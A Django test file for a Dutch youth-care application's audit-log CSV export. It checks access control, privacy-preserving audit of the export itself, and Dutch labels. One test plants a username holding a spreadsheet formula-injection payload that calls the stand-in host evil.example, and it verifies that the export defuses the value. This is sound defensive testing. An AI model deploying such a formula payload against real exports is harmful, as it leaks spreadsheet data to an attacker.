"""The privacy officer exports the audit log as CSV; the export is itself audited, without free text."""

import csv
import io

from django.urls import reverse

from kansrijk.audit.events import Event
from kansrijk.audit.models import AuditEvent
from kansrijk.audit.services import audit_record
from kansrijk.core.tests.searching import search_query
from kansrijk.interventions.tests.factories import make_intervention


def _csv(response) -> list[dict]:
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text), delimiter=";"))


def test_it_exports_the_filtered_rows_and_audits_the_export(client, privacy_officer, caseworker_a):
    intervention = make_intervention(status="in_progress", professional=caseworker_a)
    audit_record(actor=caseworker_a, event=Event.INTERVENTION_VIEWED, subject=intervention)
    audit_record(actor=caseworker_a, event=Event.INTERVENTION_VIEWED, subject=intervention)
    client.force_login(privacy_officer)

    query = search_query(client, reverse("audit:log"), event="intervention_viewed", actor="anna")
    response = client.get(reverse("audit:export") + query)

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv"
    rows = _csv(response)
    assert [(row["Gebruiker"], row["Code gebeurtenis"], row["Kenmerk"]) for row in rows] == [
        ("anna", "intervention_viewed", intervention.reference)
    ] * 2
    # In words for the privacy officer, the codes beside them.
    assert {(row["Gebeurtenis"], row["Soort gegeven"], row["Code soort gegeven"]) for row in rows} == {
        (str(Event.INTERVENTION_VIEWED.label), "Interventie", "interventions.intervention")
    }
    export = AuditEvent.objects.get(event="audit_log_exported")
    assert export.actor == privacy_officer
    assert export.new == {"filters": {"event": "intervention_viewed", "actor": "anna"}, "count": 2}


def test_its_audit_row_keeps_no_typed_text(client, privacy_officer):
    # Somebody may type a young person's name into the object or user field; the audit row,
    # which outlives retention, records only that something was typed.
    client.force_login(privacy_officer)
    query = search_query(client, reverse("audit:log"), subject="Sanne de Vries", actor="Sanne")
    response = client.get(reverse("audit:export") + query)
    assert response.status_code == 200
    assert _csv(response) == []
    export = AuditEvent.objects.get(event="audit_log_exported")
    assert export.new == {"filters": {"subject_given": True, "actor_given": True}, "count": 0}
    assert "Sanne" not in str(export.new)


def test_it_is_for_the_privacy_officer_only(client, team_lead_a):
    client.force_login(team_lead_a)
    assert client.get(reverse("audit:export")).status_code == 403
    assert not AuditEvent.objects.filter(event="audit_log_exported").exists()


def test_a_cell_that_would_run_as_a_formula_is_exported_as_text(client, privacy_officer, region_a):
    """A login attempt for a user name like "=HYPERLINK(...)" lands in the log as typed; the
    export must not hand it to a spreadsheet as a formula."""
    from kansrijk.accounts.models import User

    attacker = User(username='=HYPERLINK("http://evil.example/?"&A1)')
    attacker.save()
    audit_record(actor=attacker, event=Event.LOGIN_FAILED, subject=None)
    client.force_login(privacy_officer)

    response = client.get(
        reverse("audit:export") + search_query(client, reverse("audit:log"), event="login_failed")
    )

    rows = _csv(response)
    assert [row["Gebruiker"] for row in rows] == ['\'=HYPERLINK("http://evil.example/?"&A1)']


def test_the_log_speaks_dutch_for_events_objects_and_the_system(client, privacy_officer, caseworker_a):
    intervention = make_intervention(status="in_progress", professional=caseworker_a)
    audit_record(actor=None, event=Event.INTERVENTION_VIEWED, subject=intervention)
    client.force_login(privacy_officer)

    page = client.get(reverse("audit:log")).content.decode()
    rows = _csv(client.get(reverse("audit:export")))

    assert "Kansrijk (automatisch)" in page and ">system<" not in page
    assert "intervention_viewed" not in page.split("<tbody>")[1]
    assert "interventions.intervention" not in page.split("<tbody>")[1]
    assert f"Interventie {intervention.reference}" in page
    system_rows = [row for row in rows if row["Code gebeurtenis"] == "intervention_viewed"]
    assert [row["Gebruiker"] for row in system_rows] == ["Kansrijk (automatisch)"]
    assert system_rows[0]["Gebeurtenis"] == str(Event.INTERVENTION_VIEWED.label)
